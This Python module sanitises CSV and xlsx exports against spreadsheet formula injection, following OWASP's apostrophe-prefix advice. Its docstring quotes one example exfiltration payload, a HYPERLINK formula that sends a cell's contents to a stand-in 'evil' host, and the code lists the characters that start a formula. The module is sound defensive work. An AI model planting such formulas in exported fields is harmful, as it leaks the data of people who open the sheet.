"""Cells for spreadsheets: text that Excel, LibreOffice or Sheets will not run.

A CSV cell that starts with `=`, `+`, `-` or `@` (or a tab or a line break before one)
is read as a formula when the file is opened: `=HYPERLINK("http://evil/?"&A1;"clic")`
in a participant's display name or note would leak the sheet or run commands (CSV
injection, OWASP). Every export of people's text goes through here:

- text formats (CSV): `safe_row` / `safe_cell` put an apostrophe in front of such a
  cell, which every spreadsheet reads as "this is text" (OWASP's advice);
- cell formats (xlsx): write the value as a string cell, never as a formula, and mark
  `is_formula_like` cells with the "quote prefix" style (openpyxl:
  `cell.data_type = "s"; cell.quotePrefix = True`), so the apostrophe is not shown.

Numbers (`int`, `float`) stay numbers: a negative number is not a formula.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

# What a spreadsheet evaluates at the start of a cell, and the full-width forms some
# spreadsheets fold into them.
FORMULA_STARTS = frozenset("=+-@\t\r\n|%") | frozenset("\uff1d\uff0b\uff0d\uff20")
TEXT_MARK = "'"


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could read `text` as a formula (or a DDE call)."""
    stripped = text.lstrip(" ")
    return bool(stripped) and (stripped[0] in FORMULA_STARTS or text[0] in FORMULA_STARTS)


def safe_cell(value: Any) -> Any:
    """`value` as it may go into a CSV cell: formula-like text gets a leading apostrophe."""
    if isinstance(value, str) and is_formula_like(value):
        return TEXT_MARK + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]
